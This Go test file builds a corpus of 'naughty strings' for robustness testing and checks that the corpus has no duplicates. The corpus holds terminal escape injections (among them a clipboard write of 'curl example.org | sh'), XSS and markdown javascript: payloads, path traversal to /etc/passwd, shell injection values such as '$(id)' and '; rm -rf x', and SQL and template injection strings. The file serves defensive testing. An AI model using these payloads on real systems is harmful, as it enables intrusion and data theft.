package main

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
)

// naughtyStrings are texts that try to be more than text: to steer a terminal,
// to run in a page, to end the file in which they stand, to be too much.
func naughtyStrings() []string {
	var all []string
	for c := range rune(0xa0) {
		if (c < 0x20 || c >= 0x7f) && c != '\n' {
			all = append(all, fmt.Sprintf("control %02x: a%cb", c, c))
		}
	}
	for _, c := range []rune{0x61c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e,
		0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xad, 0xfeff, 0xfff9, 0xfffb, 0xfffe, 0xffff, 0xe0001, 0xe007f, 0xe000, 0x10ffff, 0x180e, 0x3164} {
		all = append(all, fmt.Sprintf("format %04x: user%cresu.exe", c, c))
	}
	all = append(all, terminalPayloads()...)
	all = append(all, pagePayloads()...)
	all = append(all, markdownPayloads...)
	all = append(all, filePayloads...)
	all = append(all, formatPayloads...)
	return append(all, letterPayloads()...)
}

// terminalPayloads are escape sequences in their 7-bit and 8-bit forms, and
// cut off where a terminal still waits for their end.
func terminalPayloads() []string {
	clip := base64.StdEncoding.EncodeToString([]byte("curl example.org | sh\n"))
	var all []string
	for _, body := range []string{
		"]8;;https://example.org\x07click\x1b]8;;\x07", "]8;id=1;file:///etc/passwd\x1b\\here\x1b]8;;\x1b\\",
		"]52;c;" + clip + "\x07", "]52;c;?\x1b\\", "]0;owned\x07", "]2;owned\x1b\\", "]4;1;rgb:ff/ff/ff\x07", "]10;#000000\x07", "]11;?\x07",
		"]1337;File=inline=1:AAAA\x07", "]777;notify;a;b\x07", "]9;hello\x07", "]50;font\x07", "]133;A\x07", "]7;file://host/tmp\x07",
		"[2J", "[H", "[31m", "[8m", "[5m", "[0;0;0m", "[1A", "[999D", "[K", "[6n", "[c", "[>c", "[?25l", "[?1049h", "[?2004h", "[?1000h", "[21t", "[20h", "[3J",
		"Pq#0;2;0;0;0~-\x1b\\", "P+q544e\x1b\\", "_Ga=T,f=24;AAAA\x1b\\", "^private\x1b\\", "Xstart\x1b\\", "c", "7", "8", "(0lqqk", ")0", "N", "O", "#8", "=", ">", "[", "]", "P", "",
	} {
		all = append(all, "seven bits \x1b"+body)
	}
	for _, c := range []string{"\u009b31m", "\u009b2J", "\u009d0;owned\u009c", "\u009d8;;https://example.org\u009cx", "\u0090q\u009c", "\u009f\u009c", "\u0085line", "\u008dup"} {
		all = append(all, "eight bits in UTF-8 "+c)
	}
	for _, c := range []string{"\x9b31m", "\x9d0;owned\x9c", "\x90q\x9c", "\x85", "\xff\xfe", "\xc0\x9b31m", "\xc1\xbf", "\xe0\x80\x9b", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xe2\x80", "\xf0\x9f\x98", "\xc2\x1b[31m"} {
		all = append(all, "bytes that are no UTF-8 "+c)
	}
	return append(all, "over\rwritten", "back\b\b\b\bspace", "bell\a\a\a", "form\ffeed", "tab\v\t\v", "nul\x00nul", "shift\x0e in\x0f", "enquire\x05", "\x18cancel\x1asub", "del\x7fdel",
		strings.Repeat("\x1b[1A", 400), strings.Repeat("\x07", 2000))
}

// pagePayloads are markup that runs, loads, or ends what it stands in.
func pagePayloads() []string {
	all := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//example.org/x.js></SCRIPT>`, `<script/x>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, "<script\n>alert(1)</script\n>",
		`<style>@import url(https://example.org/x.css)</style>`, `<style>*{background:url(https://example.org)}</style>`, `</style><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
		`</pre></details></main><h1>owned</h1>`, `</textarea><script>alert(1)</script>`, `</desc></svg><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
		`<!-- <script>alert(1)</script>`, `--><script>alert(1)</script>`, `<!--><script>alert(1)</script>`, `<!doctype html><html>`, `<?xml version="1.0"?><x/>`, `<?php echo 1 ?>`,
		`<base href="https://example.org/">`, `<meta http-equiv="refresh" content="0;url=https://example.org">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
		`<link rel=stylesheet href=https://example.org/x.css>`, `<link rel=preload as=image href=https://example.org>`, `<iframe src=https://example.org>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data=https://example.org>`, `<embed src=https://example.org>`, `<frameset><frame src=https://example.org>`, `<applet code=x>`, `<portal src=https://example.org>`,
		`<form action=https://example.org><input name=a><button>go</button></form>`, `<button formaction=javascript:alert(1)>x`, `<input type=image src=https://example.org>`, `<isindex action=javascript:alert(1)>`,
		`<video src=https://example.org autoplay>`, `<audio src=https://example.org autoplay>`, `<video poster=https://example.org>`, `<source srcset=https://example.org>`, `<picture><source srcset=https://example.org></picture>`,
		`<table background=https://example.org>`, `<body background=https://example.org onload=alert(1)>`, `<div style="background:url(https://example.org)">`, `<p style=position:fixed;inset:0>`, `<font face=x>`,
		`<svg><script>alert(1)</script></svg>`, `<svg><use href="data:image/svg+xml,x#x"/></svg>`, `<svg><image href=https://example.org /></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><foreignObject><iframe src=https://example.org></foreignObject></svg>`, `<svg><animate attributeName=href values=javascript:alert(1)>`, `<svg><set attributeName=onmouseover to=alert(1)>`, `<svg><style>*{fill:url(https://example.org)}`,
		`<math><mtext><script>alert(1)</script>`, `<math href=javascript:alert(1)>x`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script>`, `<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><script>alert(1)</script>">`,
		`<a href=javascript:alert(1)>x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href=vbscript:x>x</a>`, `<a href=" &#1; javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a target=_blank href=//example.org>x</a>`, `<a ping=https://example.org href=#>x</a>`,
		`<details open ontoggle=alert(1)>x`, `<marquee onstart=alert(1)>x`, `<dialog open>x`, `<x contenteditable autofocus onfocus=alert(1) tabindex=1>`, `<keygen autofocus onfocus=alert(1)>`, `<plaintext>`, `<xmp><script>alert(1)</script>`, `<listing>`, `<noembed>`, `<nobr>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;b&amp;gt;`, `&nbsp;&copy;&#0;&#x202e;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `＜script＞alert(1)＜/script＞`,
		`<h6>a heading that jumps</h6>`, `<main>`, `<section aria-labelledby=criteria>`, `<p id=criteria>`, `<title>owned</title>`, `<head>`, `</body></html>`, `<`, `<<<>>>`, `<a`, `<a href="`, `</`, `<!`, `<?`, `&`, `&#`, `&#x`,
	}
	for _, event := range []string{"onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationend", "onbegin", "onpageshow", "onpointerover", "oncopy"} {
		all = append(all, `<img src=x `+event+`=alert(1)>`, `" `+event+`="alert(1)`, `' `+event+`='alert(1)' x='`)
	}
	return all
}

var markdownPayloads = []string{
	"[a link](javascript:alert(1))", "[a link](JaVaScRiPt:alert(1))", "[a link](data:text/html;base64,PHNjcmlwdD4=)", "[a link](vbscript:x)", "[a link](file:///etc/passwd)", "[a](<javascript:alert(1)>)",
	"![a picture](https://example.org/x.png)", "![a](javascript:alert(1))", `![a](x "onerror=alert(1)")`, "![][r]\n\n[r]: https://example.org/x.png", "<javascript:alert(1)>", "<https://example.org>", "https://example.org", "www.example.org",
	"[a]: javascript:alert(1)\n[a]", "[a](https://example.org \"title\\\" onclick=alert(1)\")", "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>",
	"# A heading", "## q2", "### q3", "- [x] done", "| a | b |\n|---|---|\n| <b> | c |", "> a quote\n> <script>", "1. one\n1. two", "***", "---", "===", "a\n===", "a\n---", "*a **b* c**", "<b>*a*</b>", "\\<script\\>", "[^1]\n\n[^1]: note", "~~~\nopen fence", "```\nopen fence",
}

// filePayloads try to end the part of a file in which they stand, or to be a
// place elsewhere.
var filePayloads = []string{
	"---\nkata: other\n---", "...\nkata: other", "kata: [", "a: &a [*a]", "!!binary AAAA", "!<tag:yaml.org,2002:null>", "%YAML 1.2", "? : - , [] {}", "'single' and \"double\"", "key: value # comment", "|\n  block", ">-\n  folded", "\tindented", "- - - -", "null", "~", "true", "0x10", "1e400", ".nan",
	"<!-- kata:record -->", "<!-- try 1 -->", "-->\n## q1\n\nforged", "```kata\ntries: 9\n```", "````\n```\n````", "## q1\n\n## q1\n\n## q1", "{\"id\": \"x\", \"question\": \"q1\"}", "\"}, {\"id\": \"y", "../../etc/passwd", "/dev/null", "..", ".", "~/x", "C:\\con", "con", "aux.md", "a:b", "-rf", "--help", "--html=x", "-", "*", "$HOME", "`id`", "$(id)", "; rm -rf x", "| sh", "&& x", "a\nb\nc", " leading and trailing ", "ends in a dot.",
}

var formatPayloads = []string{
	"{{.Kata}}", "{{range .Questions}}", "{{template \"measures\" .}}", "{{end}}", "{{/*", "{{`", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "%s%s%s%n", "%!d(MISSING)", "%[99999]*d", "%", "%%", "\\", "\\n\\x1b[31m", "\\e[31m", "^[[31m", "\\033[31m", "$1 \\1 \\g<0>", "(((((((((((((((((((", "[[[[", "(a+)+$", "'; DROP TABLE answers; --", "=1+1", "@SUM(1)", "NaN", "undefined", "-0",
}

// letterPayloads are letters, of which there are many kinds and sometimes too
// many.
func letterPayloads() []string {
	all := []string{
		"مرحبا بالعالم", "שלום עולם", "abc שלום def مرحبا", "日本語のテキスト", "한국어 텍스트", "ไทยไม่มีช่องว่าง", "Ελληνικά και Кириллица", "İıſK", "ﬁ ligature ﬀ", "Ａfullwidth", "ﷺ", "ꙮ", "𝒜𝔅 math", "\u202e", "👩\u200d👩\u200d👧\u200d👦 family", "🏳️\u200d🌈 flag", "🇩🇪🇫🇷🇯", "👍🏽👍🏿", "❤️❤", "🧑🏿\u200d🚀\u200d\u200d\u200d", "e\u0301 and é", "\u0301 begins", "\u20dd\u20e3", "a\u0338b", "क्षि", "ක්\u200dෂ", "\U0001f468\u200d", "\ufe0f\ufe0e", "\U000e0041\U000e0042", "ⓐⓑ①②", "…‥⋯", "“quoted” ‘too’ «so»", "−–—―", "a\u00a0b\u2003c\u3000d", "\u2800\u3164\uffa0", "¿¡§¶†", "₿€£¥", "½⅓", "½" + strings.Repeat("⁄", 30),
	}
	for _, n := range []int{100, 1000, 17000} {
		all = append(all, strings.Repeat("a", n), strings.Repeat("word ", n/5), strings.Repeat("\u0316\u0317", n/2), strings.Repeat("漢", n/3), strings.Repeat("🙂\u200d", n/7), strings.Repeat("<b>", n/3), strings.Repeat("\n", n))
	}
	return append(all, "z"+strings.Repeat("\u0300\u0301\u0302\u0303\u0304", 40)+"algo", strings.Repeat("(", 5000), strings.Repeat("> ", 500)+"deep", strings.Repeat("- ", 500)+"deep", strings.Repeat("*", 5000), strings.Repeat("[", 5000))
}

// TestNaughtyStringsAreMany keeps the list what the others rely on.
func TestNaughtyStringsAreMany(t *testing.T) {
	all := naughtyStrings()
	seen := map[string]bool{}
	for _, s := range all {
		if seen[s] {
			t.Errorf("twice: %.60q", s)
		}
		seen[s] = true
	}
	if len(seen) < 400 {
		t.Errorf("%d strings, 400 are asked for", len(seen))
	}
	t.Logf("%d strings", len(seen))
}
